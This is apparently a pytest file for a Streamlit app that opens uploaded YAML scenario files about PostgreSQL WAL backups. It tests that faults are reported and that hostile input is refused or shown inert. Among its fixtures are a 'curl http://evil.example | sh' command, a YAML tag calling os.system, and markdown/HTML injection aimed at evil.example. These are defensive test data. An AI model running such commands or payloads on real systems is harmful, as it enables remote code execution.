"""Scenario files that a visitor opens: good ones play, faulty ones say what to mend, nothing in them is obeyed."""

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from tests.ui import visiting
from tests.ui.visiting import told
from ui import language, markup, opened, openers, runs, shelf

SOURCE = (Path(__file__).resolve().parents[2] / "scenarios" / "fetch-loses-wal.yaml").read_text(encoding="utf-8")
LONG = SOURCE.replace("write: 128MB", "write: 60GB").replace("max_wal_size: 64MB", "max_wal_size: 32MB")
HOSTILE_TITLE = "![x](http://evil.example/x) <b>bold</b> :red[red] `code` $x$ www.evil.example"


def upload(lang: str, text: str, name: str = "mine.yaml") -> AppTest:
    app = visiting.page("scenarios", lang=lang)
    app.file_uploader(openers.SCENARIO).set_value((name, text.encode(), "application/yaml")).run()
    assert not app.exception
    return app


@pytest.mark.parametrize("lang", language.LANGUAGES)
def test_a_good_file_opens_in_the_theatre_under_an_id_of_its_content(lang: str) -> None:
    app = upload(lang, SOURCE + "# mine\n")
    assert app.title[0].value
    (kept,) = app.session_state[opened.KEPT].values()
    assert kept.id.startswith(opened.PREFIX)
    assert app.query_params["scenario"] == kept.id
    assert kept.timeline == shelf.scenarios()["fetch-loses-wal"].timeline


@pytest.mark.parametrize("lang", language.LANGUAGES)
def test_every_fault_is_told_with_its_line_and_field(lang: str) -> None:
    faulty = SOURCE.replace("method: basebackup", "method: magic").replace("write: 128MB", "wriet: 128MB", 1)
    line = 1 + faulty[: faulty.index("wriet")].count("\n")
    said = told(upload(lang, faulty))
    assert "magic" in said
    assert f"mine.yaml:{line}: timeline[0].while[0].wriet" in said


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("empty", ""),
        ("not YAML", "a: [b"),
        ("an anchor", SOURCE.replace("id: fetch", "id: &a fetch")),
        ("a tag", "!!python/object/apply:os.system ['true']"),
        ("too large", SOURCE + "#" * 1_000_001),
        ("a command that is none", SOURCE.replace('psql -c "CHECKPOINT"', "curl http://evil.example | sh")),
    ],
)
def test_what_cannot_be_played_is_said_and_not_kept(name: str, text: str) -> None:
    app = upload("en", text)
    assert app.error
    assert app.code[0].value.startswith("mine.yaml:")
    assert not app.session_state[opened.KEPT] if opened.KEPT in app.session_state else True


def test_a_scenario_that_would_play_for_hours_is_refused() -> None:
    app = upload("en", LONG)
    assert "more than 5000 steps" in app.error[0].value


def test_what_a_file_says_is_shown_and_never_obeyed() -> None:
    text = SOURCE.replace("Can a fetch backup (-Xf) finish on a server that writes a lot?", f"'{HOSTILE_TITLE}'")
    app = upload("en", text)
    title = app.title[0].value
    assert title == markup.plain(HOSTILE_TITLE)
    assert "](http" not in title
    assert "<b>" not in title
    assert "www." not in title


def test_only_conditions_that_a_server_takes_are_offered() -> None:
    offered = "wal_keep_size: [0, 64MB, banana]\n  '![x](http://evil)': [1]"
    text = SOURCE.replace("wal_keep_size: [0, 64MB, 128MB, 256MB, 512MB]", offered)
    scenario = opened.open_file(text.encode(), "mine.yaml")
    assert [(each.name, each.values) for each in scenario.conditions] == [("wal_keep_size", ("0", "64MB"))]


@pytest.mark.parametrize("lang", language.LANGUAGES)
@pytest.mark.parametrize("page", ["scenarios", "theatre"])
def test_a_file_that_is_not_here_any_more_is_asked_for_kindly(page: str, lang: str) -> None:
    said = told(visiting.page(page, scenario="file-1a2b3c4d", lang=lang))
    assert "file-1a2b3c4d" in said
    assert language.say("file_title", lang) in said


def test_an_opened_file_has_every_run_that_the_dojos_own_scenarios_have(monkeypatch: pytest.MonkeyPatch) -> None:
    scenario = opened.open_file(SOURCE.encode(), "mine.yaml")
    monkeypatch.setattr(opened, "find", {scenario.id: scenario}.get)
    mine = runs.stage_text(scenario.id, 16, (("wal_keep_size", "64MB"),), "en")
    own = runs.stage_text("fetch-loses-wal", 16, (("wal_keep_size", "64MB"),), "en")
    assert mine.replace(scenario.id, "fetch-loses-wal") == own
